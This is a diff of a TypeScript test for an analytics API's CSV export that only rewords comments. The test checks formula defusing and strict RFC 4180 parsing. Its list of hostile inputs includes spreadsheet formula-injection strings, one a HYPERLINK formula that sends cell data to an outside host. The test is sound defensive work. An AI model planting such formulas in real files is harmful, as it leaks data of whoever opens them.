@@ -1,4 +1,4 @@
-/** Every list of every answer as CSV: what a strict reader makes of it is what JSON says, whatever the values are. */
+/** Every list of every response as CSV: a strict reader gets the values of the JSON, whatever they are. */
 import assert from 'node:assert/strict';
 import { gunzipSync } from 'node:zlib';
 import { defineQuery, queries, resultLists, utc } from '@footfall/warehouse';
@@ -7,7 +7,7 @@ import { z } from 'zod';
 import { startHost, type TestHost, type TestReply } from './host.fixture.ts';
 import { storeTraffic } from './traffic.fixture.ts';
 
-/** As spreadsheets, readers of CSV or its writer could take them for something else. */
+/** Texts that spreadsheets, readers of CSV or its writer could misinterpret. */
 const hostileTexts = [
   '=1+1',
   '=HYPERLINK("http://example.com?"&A1,"open")',
@@ -32,12 +32,12 @@ const hostileTexts = [
   'NULL',
 ];
 
-/** What some endpoints require. */
+/** The required parameters of some endpoints. */
 const required: Readonly<Record<string, string>> = {
   properties: 'type=signup',
   funnel: 'step=path:is:/pricing&step=type:is:signup',
 };
-/** What makes optional lists and columns appear. */
+/** Parameters that make optional lists and columns appear. */
 const more: Readonly<Record<string, readonly string[]>> = {
   realtime: ['minutes=5'],
   breakdown: ['by=source&compare=previous', 'by=city,country&metrics=visitors', 'by=prop:%22plan%22'],
@@ -106,7 +106,7 @@ afterAll(() => host.stop());
 
 const pathOf = (name: string, search: string) => `/api/v1/analytics/${name}?${search}`;
 
-/** A file that keeps to RFC 4180 to the letter. */
+/** Parses a file that follows RFC 4180 strictly. */
 function read(reply: TestReply): { header: string[]; records: Record<string, string>[] } {
   const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(reply.body);
   expect(text.endsWith('\r\n')).toBe(true);
@@ -125,7 +125,7 @@ function expectRefusal(reply: TestReply): string {
   return Object(reply.json()).error.message;
 }
 
-/** The cells that an entry of JSON should have, formulas defused. */
+/** Returns the cells that an entry of JSON should have, with formulas defused. */
 function cells(entry: unknown, part: string, column = ''): [string, string][] {
   if (typeof entry === 'object' && entry !== null) {
     return Object.entries(entry).flatMap(([name, value]) => cells(value, part, column ? `${column}_${name}` : name));
